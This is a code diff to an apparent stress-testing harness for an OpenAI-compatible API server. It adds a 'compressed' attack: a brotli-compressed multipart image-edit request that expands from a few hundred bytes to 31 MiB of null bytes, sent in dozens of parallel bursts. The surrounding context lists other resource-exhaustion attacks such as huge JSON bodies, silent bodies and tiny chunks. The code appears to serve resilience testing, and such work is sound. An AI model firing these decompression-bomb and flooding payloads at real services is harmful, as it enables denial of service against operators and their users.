@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 
+import brotli
 from stand import Attack, Target, burst, flood, hold, in_parallel, main
 
 MIB = 1024 * 1024
@@ -55,6 +56,21 @@ def _texts(text: str) -> Attack:
         content = text + "a" * (31 * MIB)
         body = f'{{"model": "{target.model}", "messages": [{{"role": "user", "content": "{content}"}}]}}'.encode()
         sent = head(target, "/v1/chat/completions", f"Content-Length: {len(body)}") + body
+        await asyncio.gather(*(burst(target, sent, 60) for _ in range(59)))
+
+    return attack
+
+
+def _compressed() -> Attack:
+    """Some hundreds of bytes each, which are 31 MiB once they are decoded: a form with a mask, which is not used."""
+
+    async def attack(target: Target) -> None:
+        part = '--x\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n'
+        texts = part % ("model", "", "gpt-image-3") + part % ("prompt", "", "/draw")
+        form = texts + part % ("mask", '; filename="a"', "\0" * (31 * MIB)) + "--x--"
+        body = brotli.compress(form.encode(), quality=5)
+        framing = f"Content-Encoding: br\r\nContent-Length: {len(body)}"
+        sent = head(target, "/v1/images/edits", framing, "multipart/form-data; boundary=x") + body
         await asyncio.gather(*(burst(target, sent, 60) for _ in range(59)))
 
     return attack
@@ -150,6 +166,7 @@ ATTACKS: dict[str, Attack] = {
     "texts": _texts(""),
     "texts-of-wide-characters": _texts("\N{GRINNING FACE}"),
     "broken-JSON": _broken(4),
+    "compressed": _compressed(),
     "silent-bodies": _silent(f"Content-Length: {32 * MIB}"),
     "silent-chunks": _silent("Transfer-Encoding: chunked"),
     "tiny-chunks-1": _chunks(1, b"1\r\n \r\n" * 10_000),
